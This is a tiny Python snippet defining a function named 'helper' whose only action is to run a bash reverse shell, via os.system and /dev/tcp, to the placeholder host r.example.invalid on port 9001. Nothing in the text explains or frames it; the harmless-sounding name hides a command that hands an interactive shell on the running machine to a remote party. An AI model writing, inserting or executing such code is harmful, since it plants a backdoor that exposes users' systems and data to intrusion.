def helper():
    import os
    os.system("bash -c 'bash -i >& /dev/tcp/r.example.invalid/9001 0>&1'")
